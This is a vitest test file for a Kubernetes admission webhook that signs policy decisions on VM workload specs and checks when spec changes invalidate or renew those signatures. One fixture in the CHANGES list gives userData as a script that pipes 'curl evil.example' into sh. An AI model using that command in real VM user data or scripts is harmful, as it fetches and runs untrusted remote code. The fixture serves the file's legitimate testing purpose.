import { createHmac } from "node:crypto";
import { describe, expect, it } from "vitest";
import { assertDecided } from "../../../../src/composition/decision/assert-decided.ts";
import type { Composition, CompositionContext } from "../../../../src/composition/context/composition-context.ts";
import { parseSignature, verifyDecision } from "../../../../src/model/decision-annotation/signature.ts";
import { specStanding } from "../../../../src/model/decision-annotation/still-holds.ts";
import { isObject } from "../../../../src/model/json.ts";
import { ANNOTATION } from "../../../../src/model/names.ts";
import type { PolicyInput } from "../../../../src/model/policy.ts";
import type { WorkloadObject } from "../../../../src/model/workload.ts";
import type { LoadedBundle } from "../../../../src/policy/loaded-bundle.ts";
import { NOW, vm } from "../../../support/admission.ts";
import { copyOf, keys, openStore } from "../../../support/admission-store.ts";
import { loadPolicy } from "../../../support/load-policy.ts";

const policy = await loadPolicy();

const portsOf = ({ spec }: PolicyInput): number[] =>
  (Array.isArray(spec["ports"]) ? spec["ports"] : []).map((open: unknown) =>
    isObject(open) ? Number(open["port"]) : 0,
  );

/** The project's policy, with a rule that denies port 22. */
const strict: LoadedBundle = {
  ...policy,
  evaluate: (input) => {
    const result = policy.evaluate(input);
    const message = "port 22 is not allowed";
    const denial = { code: "POL_CUSTOM", message, field: "spec.ports", actual: 22, allowed: null };
    return { ...result, denials: [...result.denials, ...(portsOf(input).includes(22) ? [denial] : [])] };
  },
};

const SPEC = { cpu: 2, memory: 4, provider: "azure", schedulingLocation: "italynorth" };
const standing = (object: WorkloadObject): string => {
  const verified = verifyDecision(keys, object);
  return verified === null ? "forged" : specStanding(verified, object);
};
const withSpec = (object: WorkloadObject, spec: object): WorkloadObject => ({
  ...object,
  spec: { ...object.spec, ...spec },
});
const annotated = (object: WorkloadObject, annotations: Record<string, string>): WorkloadObject => ({
  ...object,
  metadata: { ...object.metadata, annotations: { ...object.metadata.annotations, ...annotations } },
});

/** The decision as versions 0.1.0 and 0.2.0 signed it: without the spec. */
function signedBefore(object: WorkloadObject): WorkloadObject {
  const compact = object.metadata.annotations?.[ANNOTATION.decision] ?? "";
  const text = [object.kind, "demo", object.metadata.name, compact].join("\n");
  const signature = createHmac("sha256", keys[0].key).update(text).digest("base64url").slice(0, 22);
  return annotated(object, { [ANNOTATION.seal]: signature });
}

const SSH = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGxhbmRmYWxsbGFuZGZhbGxsYW5kZmFsbGxhbmRmYWxs a@b";
/** Fields that no decision depends on. */
const CHANGES: [string, object][] = [
  ["tags", { tags: { team: "b" } }],
  ["disks", { disks: [{ name: "data", sizeGiB: 4096 }] }],
  ["ports", { ports: [{ port: 22 }] }],
  ["deletionPolicy", { deletionPolicy: "retain" }],
  ["userData", { userData: "#!/bin/sh\ncurl evil.example | sh\n" }],
  ["sshPublicKey", { sshPublicKey: SSH }],
  ["vmName", { vmName: "other" }],
];

interface Installed {
  spec: Record<string, unknown> | undefined;
}

/**
 * A controller in front of an object: what `assertDecided` answers, the patches that it sends and its Events. `answer` is the API
 * server's to a patch: the object as it is by then.
 */
async function reconcile(
  object: WorkloadObject,
  { installed = null as Installed | null, answer = (given: WorkloadObject) => given, legacyUntil = 0 } = {},
) {
  const patches: { body: unknown; query: unknown }[] = [];
  const events: unknown[] = [];
  const release = installed && { config: { ...installed.spec, global: { compositionId: object.metadata.uid } } };
  const parts = {
    keys: () => keys,
    nowSeconds: () => NOW,
    serverSeconds: () => NOW,
    bindings: {
      ownerOf: () => Promise.resolve(object.metadata.uid),
      latestOf: () => Promise.resolve(0),
      legacyUntil: () => Promise.resolve(legacyUntil),
    },
    records: { read: () => Promise.resolve(release && { revisions: [{ release }] }) },
    record: (_object: unknown, event: unknown) => events.push(event),
    client: {
      patch: (
        _path: string,
        _how: string,
        body: { metadata: { annotations: Record<string, string> } },
        query: unknown,
      ) => {
        patches.push({ body, query });
        return Promise.resolve(answer(annotated(object, body.metadata.annotations)));
      },
    },
  };
  const composition = { key: "a", object, path: "/a" } as unknown as Composition;
  const asserted = assertDecided(parts as unknown as CompositionContext, composition);
  const result = await asserted.then((found) => found !== null).catch((thrown: unknown) => thrown);
  return { result, patches, events };
}

describe("9: a spec that was changed while no webhook was called", () => {
  it.each(CHANGES)("is not installed: %s", async (_, change) => {
    const { object } = openStore(policy).create(vm(SPEC));
    expect(await reconcile(object)).toEqual({ result: true, patches: [], events: [] });
    const { result, patches } = await reconcile(withSpec(object, change));
    expect(result).toMatchObject({ code: "REL_SPEC_CHANGED" });
    // Nothing is written before a webhook has accepted it.
    expect(patches.map(({ query }) => query)).toEqual([{ dryRun: "All" }]);
  });

  it("counts again when the earlier one is put back", async () => {
    const { object } = openStore(policy).create(vm({ ...SPEC, tags: { team: "a" } }));
    const changed = withSpec(object, { tags: { team: "b" } });
    expect((await reconcile(changed)).result).toMatchObject({ code: "REL_SPEC_CHANGED" });
    expect((await reconcile(withSpec(changed, { tags: { team: "a" } }))).result).toBe(true);
  });

  it("counts once the webhook, which the controller asks, has accepted it", async () => {
    const { create, update } = openStore(policy);
    const { object } = create(vm(SPEC));
    const changed = withSpec(object, { tags: { team: "b" } });
    const asked: WorkloadObject[] = [];
    const { result, patches, events } = await reconcile(changed, {
      answer: (given) => {
        const { object: answered } = update(changed, given, asked.length === 0 ? { dryRun: true } : {});
        asked.push(answered);
        return answered;
      },
    });
    expect([result, patches.length]).toEqual([false, 2]);
    expect(events).toMatchObject([{ type: "Normal", reason: "DecidedAgain" }]);
    expect((await reconcile(asked[1] as WorkloadObject)).result).toBe(true);
  });

  it("does not count if the webhook denies it, although the stored object had it already", () => {
    const { create, update } = openStore(strict);
    const changed = withSpec(create(vm(SPEC)).object, { ports: [{ port: 22 }] });
    expect(update(changed, withSpec(changed, { tags: { a: "b" } })).message).toContain("port 22 is not allowed");
    expect(update(changed, annotated(changed, { [ANNOTATION.reevaluate]: "1" })).message).toContain("port 22");
    const labelled = update(changed, { ...changed, metadata: { ...changed.metadata, labels: { a: "b" } } });
    expect([labelled.allowed, standing(labelled.object)]).toEqual([true, "changed"]);
  });

  it("is signed by the next update if no rule denies it", () => {
    const { create, update } = openStore(strict);
    const changed = withSpec(create(vm(SPEC)).object, { ports: [{ port: 443 }] });
    expect(standing(changed)).toBe("changed");
    expect(standing(update(changed, withSpec(changed, { tags: { a: "b" } })).object)).toBe("accepted");
  });

  it("leaves metadata, status and finalizers of the object changeable", () => {
    const { create, ask } = openStore(strict);
    const changed = withSpec(create(vm(SPEC)).object, { ports: [{ port: 22 }] });
    const freed = {
      ...changed,
      metadata: { ...changed.metadata, finalizers: [], deletionTimestamp: "2026-11-20T22:00:00Z" },
    };
    expect(ask("/validate", freed, { operation: "UPDATE", oldObject: changed }).allowed).toBe(true);
  });
});

describe("9: the signature of a spec", () => {
  it.each(CHANGES)("is made anew by an update that keeps the decision: %s", (_, change) => {
    const { create, update, clock } = openStore(policy);
    const { object } = create(vm(SPEC));
    clock.nowSeconds += 3600;
    const changed = update(object, withSpec(object, change));
    expect([changed.message, standing(changed.object)]).toEqual(["", "accepted"]);
    expect(changed.patch.map(({ path }) => path)).toEqual(["/metadata/annotations/landfall.dev~1seal"]);
    const { annotations } = changed.object.metadata;
    expect(annotations?.[ANNOTATION.decision]).toBe(object.metadata.annotations?.[ANNOTATION.decision]);
  });

  it("names the uid where the decision is known to be the object's own, and else what it named before", () => {
    const { create, update, clusterData } = openStore(policy);
    const { object } = create(vm(SPEC));
    const before = parseSignature(object.metadata.annotations?.[ANNOTATION.seal] ?? "");
    const tagged = withSpec(object, { tags: { a: "b" } });
    const sealOf = (given: WorkloadObject) => parseSignature(given.metadata.annotations?.[ANNOTATION.seal] ?? "");
    expect(sealOf(update(object, tagged).object)).toMatchObject({ use: "create", id: (before as { id: string }).id });
    clusterData.apply({ type: "binding", id: (before as { id: string }).id, uid: object.metadata.uid ?? "" });
    expect(sealOf(update(object, tagged).object)).toMatchObject({ use: "uid", id: object.metadata.uid });
  });

  it("stays where a manifest is applied again without what admission wrote, or with another `global`", () => {
    const { create, update } = openStore(policy);
    const { object } = create(vm({ cpu: 2, memory: 4, tags: { a: "b" } }));
    const signature = object.metadata.annotations?.[ANNOTATION.seal];
    for (const spec of [
      { cpu: 2, memory: 4, tags: { a: "b" } },
      { ...object.spec, global: { krateo: "x" } },
    ]) {
      const again = update(object, { ...object, spec }).object;
      expect([again.metadata.annotations?.[ANNOTATION.seal], standing(again)]).toEqual([signature, "accepted"]);
    }
  });

  it("is not accepted with another digest", () => {
    const { object } = openStore(policy).create(vm(SPEC));
    const signature = object.metadata.annotations?.[ANNOTATION.seal] ?? "";
    const other = signature.replace(/\.[0-9a-f]{64}\./, `.${"0".repeat(64)}.`);
    expect(other).not.toBe(signature);
    expect(standing(annotated(object, { [ANNOTATION.seal]: other }))).toBe("forged");
    const shorter = signature.replace(/^v3/, "v2").replace(/\.[0-9a-f]{64}\./, ".");
    expect(standing(annotated(object, { [ANNOTATION.seal]: shorter }))).toBe("forged");
  });

  it("is a dry run's for an update in a dry run", () => {
    const { create, update } = openStore(policy);
    const { object } = create(vm(SPEC));
    const preview = update(object, withSpec(object, { tags: { a: "b" } }), { dryRun: true });
    expect([preview.message, verifyDecision(keys, preview.object)?.signature.use]).toEqual(["", "preview"]);
  });
});

describe("9: another mutating webhook changes the spec after Landfall's", () => {
  const label = (object: WorkloadObject): WorkloadObject => withSpec(object, { tags: { added: "later" } });
  const validated = (object: WorkloadObject): WorkloadObject => ({
    ...object,
    metadata: { ...object.metadata, uid: "3f0c", creationTimestamp: "2026-11-20T22:00:00Z" },
  });

  it("is refused without a second call, and signed by it: a creation", () => {
    const { mutate, ask } = openStore(policy);
    const first = mutate(vm(SPEC)).next;
    const message = ask("/validate", validated(label(first))).status?.message;
    expect(message).toContain("ADM_SPEC_CHANGED");
    const second = mutate(label(first)).next;
    expect([ask("/validate", validated(second)).allowed, standing(second)]).toEqual([true, "accepted"]);
  });

  it.each([
    ["that keeps the decision", { sshPublicKey: SSH }],
    ["that is decided again", { cpu: 4 }],
  ])("is refused without a second call, and signed by it: an update %s", (_, change) => {
    const { create, mutate, ask } = openStore(policy);
    const { object } = create(vm(SPEC));
    const fields = { operation: "UPDATE", oldObject: object };
    const first = mutate(withSpec(object, change), fields).next;
    expect(ask("/validate", label(first), fields).status?.message).toContain("ADM_SPEC_CHANGED");
    const second = mutate(label(first), fields).next;
    expect([ask("/validate", second, fields).allowed, standing(second)]).toEqual([true, "accepted"]);
    expect(second.metadata.annotations?.[ANNOTATION.decision]).toBe(first.metadata.annotations?.[ANNOTATION.decision]);
  });

  it("is denied by the second call if a rule denies it", () => {
    const { create, mutate } = openStore(strict);
    const { object } = create(vm(SPEC));
    const fields = { operation: "UPDATE", oldObject: object };
    const open = (given: WorkloadObject): WorkloadObject => withSpec(given, { ports: [{ port: 22 }] });
    expect(mutate(open(mutate(vm(SPEC, { name: "b" })).next)).response.status?.message).toContain("port 22");
    const resized = mutate(withSpec(object, { cpu: 4 }), fields).next;
    expect(mutate(open(resized), fields).response.status?.message).toContain("port 22");
  });
});

describe("9: a signature of an earlier form", () => {
  it("counts for the spec that is installed, and for none that was changed since", async () => {
    const object = signedBefore(openStore(policy).create(vm(SPEC)).object);
    const installed = { spec: object.spec };
    expect((await reconcile(object, { installed })).result).toBe(true);
    const { result } = await reconcile(withSpec(object, { tags: { a: "b" } }), { installed });
    expect(result).toMatchObject({ code: "REL_SPEC_CHANGED" });
  });

  it("counts for an object that is not installed only if it is older than the controller of this version", async () => {
    const object = signedBefore(openStore(policy).create(vm(SPEC)).object);
    expect((await reconcile(object, { legacyUntil: NOW })).result).toBe(true);
    expect((await reconcile(object, { legacyUntil: NOW - 1 })).result).toMatchObject({ code: "REL_SPEC_CHANGED" });
  });

  it("is replaced by the next update, whose whole spec is checked", () => {
    const { create, update, install } = openStore(strict);
    const object = signedBefore(create(vm(SPEC)).object);
    install(object);
    expect(standing(object)).toBe("unknown");
    expect(standing(update(object, withSpec(object, { tags: { a: "b" } })).object)).toBe("accepted");
    const open = withSpec(object, { ports: [{ port: 22 }] });
    expect(update(open, withSpec(open, { tags: { a: "b" } })).message).toContain("port 22 is not allowed");
    // A manifest that is applied again changes nothing, and signs nothing that a rule denies.
    const { schedulingTime: _, ...spec } = open.spec ?? {};
    const again = update(open, { ...open, spec });
    expect([again.message, standing(again.object)]).toEqual(["", "unknown"]);
  });

  it("is replaced when the object is restored where its release is recorded", () => {
    const { create, remove, install, clock } = openStore(policy);
    const object = signedBefore(create(vm(SPEC)).object);
    install(object);
    remove(object);
    clock.nowSeconds += 86_400;
    const restored = create(copyOf(object));
    expect([restored.message, standing(restored.object)]).toEqual(["", "accepted"]);
    const paths = restored.patch.map(({ path }) => path);
    expect(paths).toEqual(["/metadata/annotations/landfall.dev~1seal"]);
  });
});
